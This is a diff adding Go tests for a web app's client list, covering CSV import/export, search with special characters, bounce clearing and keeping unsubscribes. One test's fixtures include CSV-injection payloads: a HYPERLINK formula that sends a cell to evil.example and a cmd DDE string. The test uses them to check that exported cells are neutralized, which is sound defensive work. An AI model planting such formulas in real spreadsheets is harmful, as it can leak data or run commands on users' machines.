@@ -292,3 +292,201 @@ func TestClientsImportLarge(t *testing.T) {
 		t.Fatalf("export has %d lines, want 50001", n)
 	}
 }
+
+// importReport posts a CSV and returns created, updated and rejected.
+func importReport(t *testing.T, c *client, file string) (created, updated, rejected string, body string) {
+	t.Helper()
+	resp, body := multipartCSV(t, c, []byte(file))
+	wantStatus(t, resp, body, http.StatusOK)
+	doc := parseHTML(t, body)
+	get := func(id string) string { return doc.Find("[data-testid=" + id + "]").Text() }
+	return get("import-created"), get("import-updated"), get("import-rejected"), body
+}
+
+// A cell a spreadsheet would run as a formula (= + - @) must not leave the
+// export as one (CSV injection), and the export must still import back to
+// the same names.
+func TestClientsExportNeutralizesFormulas(t *testing.T) {
+	e := newEnv(t)
+	c := signedIn(t, e, "ann@example.com", model.RoleUser)
+	ctx := context.Background()
+	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
+	names := map[string]string{
+		"f1@example.com": `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+		"f2@example.com": "+1+cmd|' /C calc'!A0",
+		"f3@example.com": "-2+3",
+		"f4@example.com": "@SUM(1+1)",
+		"f5@example.com": "Plain, with \"quotes\"",
+	}
+	for email, name := range names {
+		if err := e.store.CreateClient(ctx, &model.Client{OwnerID: ann.ID, Email: email, FullName: name, Comment: name}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	resp, body := c.get(t, "/clients/export.csv")
+	wantStatus(t, resp, body, http.StatusOK)
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("export cell %q starts a formula", cell)
+			}
+		}
+	}
+	// Round trip: the export imports back as updates with the same names.
+	created, updated, rejected, rbody := importReport(t, c, body)
+	if created != "0" || updated != "5" || rejected != "0" {
+		t.Fatalf("re-import: created %s updated %s rejected %s\n%s", created, updated, rejected, rbody)
+	}
+	rows, _, _ := e.store.ListClients(ctx, store.Own(ann.ID), "", store.NewPage(1, 10))
+	for _, r := range rows {
+		if r.FullName != names[r.Email] || r.Comment != names[r.Email] {
+			t.Errorf("%s after round trip: name %q comment %q, want %q", r.Email, r.FullName, r.Comment, names[r.Email])
+		}
+	}
+}
+
+// A file that lacks a column (only emails, or no comment column) must not
+// blank that field of the clients already in the list.
+func TestClientsImportKeepsColumnsTheFileLacks(t *testing.T) {
+	e := newEnv(t)
+	c := signedIn(t, e, "ann@example.com", model.RoleUser)
+	ctx := context.Background()
+	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
+	if err := e.store.CreateClient(ctx, &model.Client{OwnerID: ann.ID, Email: "old@example.com", FullName: "Old Name", Comment: "met in Riga"}); err != nil {
+		t.Fatal(err)
+	}
+	one := func() store.ClientRow {
+		rows, _, err := e.store.ListClients(ctx, store.Own(ann.ID), "old@", store.NewPage(1, 5))
+		if err != nil || len(rows) != 1 {
+			t.Fatalf("%v %v", rows, err)
+		}
+		return rows[0]
+	}
+
+	if _, updated, _, body := importReport(t, c, "email,full_name\nOLD@example.com,New Name\n"); updated != "1" {
+		t.Fatalf("not updated:\n%s", body)
+	}
+	if r := one(); r.FullName != "New Name" || r.Comment != "met in Riga" {
+		t.Errorf("file without a comment column: name %q comment %q, want New Name / met in Riga", r.FullName, r.Comment)
+	}
+	importReport(t, c, "email\nold@example.com\nfresh@example.com\n")
+	if r := one(); r.FullName != "New Name" || r.Comment != "met in Riga" {
+		t.Errorf("file with only emails: name %q comment %q, want them kept", r.FullName, r.Comment)
+	}
+}
+
+// Google Sheets and Excel write an empty row of a sheet as ",,": a blank
+// line, not a rejected row.
+func TestClientsImportSkipsEmptySpreadsheetRows(t *testing.T) {
+	e := newEnv(t)
+	c := signedIn(t, e, "ann@example.com", model.RoleUser)
+	file := "email,full_name,comment\r\na@example.com,A,\r\n,,\r\n , ,\r\nb@example.com,B,\r\n,,\r\n"
+	created, _, rejected, body := importReport(t, c, file)
+	if created != "2" || rejected != "0" {
+		t.Fatalf("created %s rejected %s, want 2 and 0 (empty rows are blank lines):\n%s", created, rejected, body)
+	}
+	file = "email;full_name;comment\na@example.com;A;\n;;\n"
+	if _, _, rejected, body := importReport(t, c, file); rejected != "0" {
+		t.Fatalf("semicolon file: rejected %s:\n%s", rejected, body)
+	}
+}
+
+// Common spellings of the email column header (Excel, Outlook, Google
+// Forms) are understood like the name column's.
+func TestClientsImportEmailHeaderVariants(t *testing.T) {
+	e := newEnv(t)
+	c := signedIn(t, e, "ann@example.com", model.RoleUser)
+	for i, h := range []string{"E-mail", "E-mail Address", "Email Address"} {
+		file := h + ",Name\nperson" + string(rune('a'+i)) + "@example.com,P\n"
+		resp, body := multipartCSV(t, c, []byte(file))
+		if resp.StatusCode != http.StatusOK || parseHTML(t, body).Find("[data-testid=import-created]").Text() != "1" {
+			t.Errorf("header %q: status %d\n%.400s", h, resp.StatusCode, body)
+		}
+	}
+}
+
+// Search takes LIKE's and SQL's special characters literally.
+func TestClientsSearchSpecialCharacters(t *testing.T) {
+	e := newEnv(t)
+	c := signedIn(t, e, "ann@example.com", model.RoleUser)
+	ctx := context.Background()
+	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
+	for _, cl := range []model.Client{
+		{Email: "under_score@example.com", FullName: "O'Brien"},
+		{Email: "underxscore@example.com", FullName: `Back\slash "Q"`},
+		{Email: "anna@example.com", FullName: "Анна Петрова"},
+	} {
+		cl.OwnerID = ann.ID
+		if err := e.store.CreateClient(ctx, &cl); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for q, want := range map[string]int{"under_": 1, "_": 1, `\`: 1, `\s`: 1, "o'b": 1, `"q"`: 1, "%": 0, "АННА": 1, "петр": 1, "'": 1} {
+		resp, body := c.request(t, "GET", "/clients?q="+url.QueryEscape(q), nil, true)
+		wantStatus(t, resp, body, http.StatusOK)
+		if n := parseHTML(t, body).Find("[data-testid=client-row]").Length(); n != want {
+			t.Errorf("q=%q: %d rows, want %d", q, n, want)
+		}
+	}
+}
+
+// A hard bounce is about an address: when the owner corrects the address,
+// the new one is mailable; editing only the name keeps the mark.
+func TestClientsEmailChangeClearsBounce(t *testing.T) {
+	e, c, _, o := signedInWithObjects(t)
+	ctx := context.Background()
+	if _, err := e.db.ExecContext(ctx, "UPDATE clients SET bounced_at = now() WHERE id = ?", o.client.ID); err != nil {
+		t.Fatal(err)
+	}
+	bounced := func() bool {
+		var b bool
+		if err := e.db.QueryRowContext(ctx, "SELECT bounced_at IS NOT NULL FROM clients WHERE id = ?", o.client.ID).Scan(&b); err != nil {
+			t.Fatal(err)
+		}
+		return b
+	}
+	loc := "/clients/" + id(o.client.ID)
+	resp, body := c.post(t, loc, url.Values{"email": {o.client.Email}, "full_name": {"Renamed"}})
+	wantRedirect(t, resp, body, loc)
+	if !bounced() {
+		t.Fatal("editing the name cleared the bounce")
+	}
+	resp, body = c.post(t, loc, url.Values{"email": {"fixed-typo@example.com"}, "full_name": {"Renamed"}})
+	wantRedirect(t, resp, body, loc)
+	if bounced() {
+		t.Error("the corrected address is still marked as bounced, so mailings skip it")
+	}
+}
+
+// The export carries unsubscribed_at; importing it back (a restore after a
+// delete, a move to another account) must keep those people unsubscribed,
+// not mail them again. An import never clears the mark.
+func TestClientsImportKeepsUnsubscribes(t *testing.T) {
+	e, c, ann, o := signedInWithObjects(t)
+	ctx := context.Background()
+	if err := e.store.Unsubscribe(ctx, ann.ID, o.client.ID); err != nil {
+		t.Fatal(err)
+	}
+	resp, export := c.get(t, "/clients/export.csv")
+	wantStatus(t, resp, export, http.StatusOK)
+	if err := e.store.DeleteClient(ctx, ann.ID, o.client.ID); err != nil {
+		t.Fatal(err)
+	}
+	if created, _, rejected, body := importReport(t, c, export); created != "1" || rejected != "0" {
+		t.Fatalf("restore: created %s rejected %s\n%s", created, rejected, body)
+	}
+	rows, _, _ := e.store.ListClients(ctx, store.Own(ann.ID), o.client.Email, store.NewPage(1, 5))
+	if len(rows) != 1 || rows[0].UnsubscribedAt == nil {
+		t.Fatalf("restored client %+v is mailable again, want it unsubscribed", rows)
+	}
+	// A file without the column, or with it empty, leaves the mark alone.
+	importReport(t, c, "email,unsubscribed_at\n"+o.client.Email+",\n")
+	rows, _, _ = e.store.ListClients(ctx, store.Own(ann.ID), o.client.Email, store.NewPage(1, 5))
+	if rows[0].UnsubscribedAt == nil {
+		t.Fatal("an import cleared an unsubscribe")
+	}
+}
